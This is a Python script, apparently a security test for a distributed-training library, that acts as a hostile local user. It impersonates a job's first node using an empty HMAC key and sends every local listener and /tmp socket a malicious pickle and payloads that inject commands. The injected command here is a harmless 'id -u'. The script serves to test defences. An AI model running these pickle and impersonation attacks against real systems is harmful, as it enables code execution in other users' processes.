"""Another user of a machine on which a job runs: peers_stranger.py FILE LOW HIGH, until killed.

Squats the second port of each group in LOW..HIGH but the last as MPI's first node was impersonated,
sends to everything that listens what ran code in it once, and looks for sockets in /tmp. FILE would
be made by the job, if any of it worked. Prints what it did as JSON lines. Runs under any Python 3.
"""

import base64
import hmac
import json
import os
import pickle
import socket
import sys
import threading
import time
from contextlib import suppress
from pathlib import Path

MARK, LOW, HIGH = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
COMMAND = f"id -u >> {MARK}"


class Code:
    """What is run by whoever reads it as a pickle."""

    def __reduce__(self):
        """Return a function, and what to call it with."""
        return os.system, (COMMAND,)


def put(path, body):
    """Return an HTTP request."""
    head = f"PUT {path} HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n\r\n"
    return head.encode() + body


PICKLE = base64.b64encode(pickle.dumps(Code()))
SENT = (
    put("/worker_addresses/node-1:0", PICKLE),
    b"GET /worker_addresses/node-0:0 HTTP/1.1\r\nHost: x\r\n\r\n",
    b"DELETE /global/0 HTTP/1.1\r\nHost: x\r\n\r\n",
    json.dumps({"node": "node-1"}).encode() + b"\n" + b'{"ended": "0", "code": 9}\n',
    b"clusterkit-peers/1 1 " + b"a" * 32 + b"\n" + b"0" * 64 + b"\n",
    b"\xff" * 9000,
    b"",
)


def impersonate(server):
    """Be the first node of a job whose token is empty, as it was once on local machines."""
    while True:
        sock, _ = server.accept()
        with suppress(OSError, ValueError), sock, sock.makefile("rb") as lines:
            sock.settimeout(5)
            own = "b" * 32
            sock.sendall(f"{own}\n".encode())
            theirs = lines.readline().decode().strip()
            print(json.dumps({"impersonated": theirs}), flush=True)
            text = json.dumps({"run": "1", "command": COMMAND})
            words = f"{theirs} {own} False 0 {text}".encode()
            signature = hmac.new(b"", words, "sha256").hexdigest()
            sock.sendall(f"{signature} {text}\n".encode())
            lines.readline()


def listening():
    """Yield what listens on this machine, by IPv4."""
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        fields = line.split()
        if fields[3] == "0A" and fields[7] != str(os.getuid()):
            address, port = fields[1].split(":")
            host = socket.inet_ntoa(bytes.fromhex(address)[::-1])
            yield host.replace("0.0.0.0", "127.0.0.1"), int(port, 16)


def is_gloo(address):
    """Tell whether a port is one of the training itself, which any word may break: out of scope.

    It waits for a word first; what is outside LOW..HIGH and guarded sends strangers away at once.
    """
    return not LOW <= address[1] <= HIGH and attack(address, b"") != b""


def attack(address, message):
    """Send a message, and return what comes."""
    with suppress(OSError), socket.create_connection(address, timeout=0.5) as sock:
        sock.sendall(message)
        sock.settimeout(0.2)
        return sock.recv(4096)
    return None


def sockets():
    """Yield the sockets of jobs on this machine, those of other tests too; their folders may go."""
    for folder in Path("/tmp").glob("clusterkit-*"):
        with suppress(OSError):
            yield from list(folder.glob("*.sock"))


def main():
    """Attack until killed, for two minutes at most."""
    for port in range(LOW + 1, HIGH - 10, 10):
        server = socket.create_server(("", port))
        threading.Thread(target=impersonate, args=(server,), daemon=True).start()
    print(json.dumps({"squats": True}), flush=True)
    idle: list[socket.socket] = []
    end = time.monotonic() + 120
    while time.monotonic() < end:
        for address in listening():
            if is_gloo(address):
                continue
            for message in SENT:
                answer = attack(address, message)
                print(json.dumps({"to": address[1], "answer": repr(answer)}), flush=True)
            with suppress(OSError):
                idle = [*idle[-200:], socket.create_connection(address, timeout=0.5)]
        for path in sockets():
            with suppress(OSError), socket.socket(socket.AF_UNIX) as sock:
                sock.connect(str(path))
                sock.sendall(json.dumps({"host": "x", "command": COMMAND, "id": "1"}).encode())
                print(json.dumps({"socket": str(path)}), flush=True)
        time.sleep(0.02)


main()
